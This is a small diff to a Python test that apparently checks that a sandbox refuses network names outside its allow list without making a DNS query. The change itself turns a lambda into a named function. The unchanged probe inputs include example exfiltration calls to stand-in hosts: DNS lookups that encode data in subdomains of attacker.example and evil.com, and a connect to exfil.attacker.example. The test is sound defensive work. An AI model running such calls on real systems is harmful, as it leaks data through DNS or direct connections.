@@ -137,7 +137,12 @@ def test_a_name_outside_an_allow_list_is_refused_without_a_dns_query(make: Calla
                                                                      up: Upstreams) -> None:
     sbx = make(network={"allow_out": ["api.openai.com"], "deny_out": [ALL_TRAFFIC]})
     asked: list[str] = []
-    testing.egress_of(sbx).resolver.system_lookup = lambda name: asked.append(name) or []
+
+    def system_lookup(name: str) -> list[Any]:
+        asked.append(name)
+        return []
+
+    testing.egress_of(sbx).resolver.system_lookup = system_lookup
     got = probe(sbx, {"leak": "socket.getaddrinfo('c2VjcmV0.attacker.example', 443)",
                       "leak2": "socket.gethostbyname('data-123.evil.com')",
                       "connect": "connect('exfil.attacker.example', 443)"})
